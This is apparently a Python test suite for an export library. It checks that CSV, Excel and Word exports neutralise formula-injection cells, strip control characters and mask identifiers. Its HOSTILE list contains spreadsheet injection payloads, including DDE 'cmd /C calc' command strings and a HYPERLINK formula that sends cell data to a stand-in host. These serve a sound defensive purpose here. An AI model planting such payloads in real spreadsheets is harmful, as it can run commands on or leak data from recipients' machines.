"""Safe exports (lib.export): hostile cells planted in the data come back as data, never as a
formula, from every export function; read back with openpyxl, csv and python-docx."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
import pytest
from docx import Document
from openpyxl import load_workbook

from lib.export import csv_bytes, excel_workbook, neutralised, word_document
from lib.planning import export as planning_export

# what an attacker types into a name, a folio, a description or a note
HOSTILE = [
    "=1+2",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://x/?"&A2,"Ver")',
    "=cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"!A0")',
    '@DDE("cmd";"/C calc";"!A0")',
    "  =1+2",
    "＝1+2",
    "#N/A",
]
CONTROL = "a\x00b\x07c\x1bd"  # characters XML cannot hold
CONTROL_CLEAN = "a\ufffdb\ufffdc\ufffdd"
# hand-written CSV oracle: each hostile cell as a spreadsheet must receive it
CSV_EXPECTED = {
    "=1+2": "'=1+2",
    "+1": "'+1",
    "-1+1": "'-1+1",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    '=HYPERLINK("http://x/?"&A2,"Ver")': '\'=HYPERLINK("http://x/?"&A2,"Ver")',
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"!A0")': 'DDE("cmd";"/C calc";"!A0")',  # not a formula: no prefix
    '@DDE("cmd";"/C calc";"!A0")': '\'@DDE("cmd";"/C calc";"!A0")',
    "  =1+2": "'  =1+2",
    "＝1+2": "'＝1+2",
    "#N/A": "#N/A",
}


def hostile_frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "Texto": HOSTILE,
            "Número": [float(-i) - 0.5 for i in range(n)],
            "Entero": list(range(-3, n - 3)),
            "Fecha": [dt.date(2026, 1, 1) + dt.timedelta(days=i) for i in range(n)],
            "=Encabezado": ["ok"] * n,
        }
    )


def _formulas(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    return [
        f"{ws.title}!{c.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_expected_strings_cover_the_whole_corpus() -> None:
    assert set(CSV_EXPECTED) == set(HOSTILE)
    assert neutralised(-1) == -1 and neutralised(-1.5) == -1.5  # numbers are not formulas
    assert neutralised("texto") == "texto" and neutralised(None) is None


def test_csv_neutralises_text_and_leaves_numbers() -> None:
    rows = _csv_rows(csv_bytes(hostile_frame()))
    assert rows[0] == ["Texto", "Número", "Entero", "Fecha", "'=Encabezado"]
    body = rows[1:]
    assert [r[0] for r in body] == [CSV_EXPECTED[h] for h in HOSTILE]
    assert [r[1] for r in body] == [str(float(-i) - 0.5) for i in range(len(HOSTILE))]
    assert [r[2] for r in body] == [str(i) for i in range(-3, len(HOSTILE) - 3)]
    assert body[0][3] == "2026-01-01"


def test_csv_replaces_control_characters_and_handles_empty_tables() -> None:
    rows = _csv_rows(csv_bytes(pd.DataFrame({"t": [CONTROL, None]})))
    assert rows == [["t"], [CONTROL_CLEAN], [""]]
    assert _csv_rows(csv_bytes(pd.DataFrame(columns=["=a", "b"]))) == [["'=a", "b"]]


def test_excel_stores_every_hostile_cell_as_text_and_numbers_as_numbers() -> None:
    frame = hostile_frame()
    data = excel_workbook(
        "=Título",
        [("=Concepto", "=1+2"), ("Control", CONTROL)],
        {"=Hoja": frame, "Vacía": pd.DataFrame(columns=["=x"]), "Ctl\x01": frame.head(1)},
    )
    assert _formulas(data) == []
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Portada", "=Hoja", "Vacía", "Ctl\ufffd"]
    cover = wb["Portada"]
    assert cover["A1"].value == "=Título" and cover["A1"].data_type == "s"
    assert [cover["A4"].value, cover["B4"].value] == ["=Concepto", "=1+2"]
    assert cover["B5"].value == CONTROL_CLEAN
    ws = wb["=Hoja"]
    assert [c.value for c in ws[1]] == ["Texto", "Número", "Entero", "Fecha", "=Encabezado"]
    rows = list(ws.iter_rows(min_row=2, values_only=False))
    assert [r[0].value for r in rows] == HOSTILE  # text equal to the original
    assert all(r[0].data_type == "s" for r in rows)
    assert [r[1].value for r in rows] == [float(-i) - 0.5 for i in range(len(HOSTILE))]
    assert all(r[1].data_type == "n" and r[2].data_type == "n" for r in rows)
    assert [r[2].value for r in rows] == list(range(-3, len(HOSTILE) - 3))
    assert rows[0][3].is_date and rows[0][3].value.date() == dt.date(2026, 1, 1)
    assert [c.value for c in wb["Vacía"][1]] == ["=x"] and wb["Vacía"].max_row == 1


def test_word_writes_plain_runs_without_fields() -> None:
    frame = hostile_frame().assign(Control=CONTROL)
    data = word_document("=Título", [("=Concepto", "=1+2")], {"=Tabla": frame, "Vacía": frame[:0]})
    doc = Document(io.BytesIO(data))
    xml = doc.element.xml
    assert "fldSimple" not in xml and "instrText" not in xml and "fldChar" not in xml
    facts, table = doc.tables
    assert [c.text for c in facts.rows[0].cells] == ["=Concepto", "=1+2"]
    assert [c.text for c in table.rows[0].cells] == [
        "Texto",
        "Número",
        "Entero",
        "Fecha",
        "=Encabezado",
        "Control",
    ]
    first = [c.text for c in table.rows[1].cells]
    assert first == ["=1+2", "-0.5", "-3", "01/01/2026", "ok", CONTROL_CLEAN]
    # a tab or a carriage return is kept as what Word makes of it, the rest verbatim
    assert [r.cells[0].text for r in table.rows[1:]][6:] == HOSTILE[6:]
    assert "=Título" in [p.text for p in doc.paragraphs]
    assert any(p.text == "Sin filas." for p in doc.paragraphs)


MASKED_TEXT = "Llamar a juan@empresa.com.mx por Z1400000123"
MASKED_EXPECTED = "Llamar a jua•••••••••••••.mx por Z14•••••123"


def test_every_export_function_masks_text_when_asked() -> None:
    frame = pd.DataFrame({"Texto": [MASKED_TEXT], "Folio": ["Q-2026-0001234"], "n": [12345678901]})
    rows = _csv_rows(csv_bytes(frame, mask=True))
    assert rows[1] == [MASKED_EXPECTED, "Q-2026-0001234", "12345678901"]  # numbers untouched
    assert _csv_rows(csv_bytes(frame))[1][0] == MASKED_TEXT
    wb = load_workbook(
        io.BytesIO(excel_workbook("t", [("Nota", MASKED_TEXT)], {"A": frame}, mask=True))
    )
    assert wb["Portada"]["B4"].value == MASKED_EXPECTED
    assert [c.value for c in wb["A"][2]] == [MASKED_EXPECTED, "Q-2026-0001234", 12345678901]
    doc = Document(io.BytesIO(word_document("t", [("Nota", MASKED_TEXT)], {"A": frame}, mask=True)))
    texts = [c.text for t in doc.tables for r in t.rows for c in r.cells]
    assert MASKED_EXPECTED in texts and MASKED_TEXT not in texts


def _hostile_draft() -> dict:
    return {
        "year": 2027,
        "title": '=HYPERLINK("http://x/?"&A2,"Ver")',
        "status": "borrador",
        "notes": "=cmd|' /C calc'!A0 " + CONTROL + " Z1400000123",
        "targets": [
            {
                "indicator": h,
                "unit": "%",
                "baseline": -1.5,
                "target": 45.5,
                "notes": h + " RFC ABCD800101XX1",
            }
            for h in HOSTILE
        ],
        "capacity": [],
        "campaigns": [],
    }


@pytest.mark.parametrize("mask", [False, True])
def test_work_program_files_hold_hostile_notes_as_text(mask: bool) -> None:
    content = _hostile_draft()
    xlsx = planning_export.workbook(content, 1, "=autor", mask=mask)
    assert _formulas(xlsx) == []
    wb = load_workbook(io.BytesIO(xlsx))
    metas = list(wb["Metas"].iter_rows(min_row=2, values_only=True))
    header = [c.value for c in wb["Metas"][1]]
    indicator, notes = header.index("Indicador"), header.index("Notas")
    assert [r[indicator] for r in metas] == HOSTILE
    rfc = "RFC ABC•••••••XX1" if mask else "RFC ABCD800101XX1"
    assert [r[notes] for r in metas] == [f"{h} {rfc}" for h in HOSTILE]
    assert metas[0][header.index("Meta")] == 45.5
    cover = {r[0]: r[1] for r in wb["Portada"].iter_rows(min_row=4, values_only=True)}
    assert cover["Programa"] == content["title"] and cover["Autor de la versión"] == "=autor"
    reg = "Z14•••••123" if mask else "Z1400000123"
    assert cover["Notas"] == f"=cmd|' /C calc'!A0 {CONTROL_CLEAN} {reg}"

    doc = Document(io.BytesIO(planning_export.document(content, 1, "=autor", mask=mask)))
    assert "instrText" not in doc.element.xml and "fldSimple" not in doc.element.xml
    cells = [c.text for t in doc.tables for r in t.rows for c in r.cells]
    assert f"=cmd|' /C calc'!A0 {CONTROL_CLEAN} {reg}" in cells
    assert ("ABCD800101XX1" in " ".join(cells)) is not mask
